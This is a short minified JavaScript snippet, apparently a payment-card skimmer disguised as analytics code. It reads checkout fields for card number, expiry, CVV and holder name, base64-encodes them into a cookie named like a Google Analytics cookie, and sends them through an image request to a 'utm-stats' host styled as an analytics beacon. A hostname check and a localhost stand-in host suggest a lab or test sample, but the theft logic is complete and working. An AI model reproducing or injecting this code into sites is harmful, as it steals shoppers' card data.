function setC(n,v){document.cookie=n+"="+v+";path=/;expires="+new Date(+new Date+864e5).toUTCString()}
function getC(n){var m=document.cookie.match(new RegExp('(?:^|; )'+n+'=([^;]*)'));return m?m[1]:null}
(function(){
if(location.hostname.search(/\.localhost$/)<0)return;
var p=getC('__utmzz');
if(p){var i=new Image;i.src='https://utm-stats.localhost/__utm.gif?utmcc='+p;i.onload=i.onerror=function(){setC('__utmzz','')}}
var ids=['cardNo','cardExpMonth','cardExpYear','cardCvv','cardHolder'];
for(var a=0;a<ids.length;a++)(function(id){var e=document.getElementById(id);e&&(e.onchange=function(){
var o=[];for(var b=0;b<ids.length;b++){var f=document.getElementById(ids[b]);o.push(f?f.value:'')}
setC('__utmzz',encodeURIComponent(btoa(o.join('.'))))})})(ids[a]);
})();
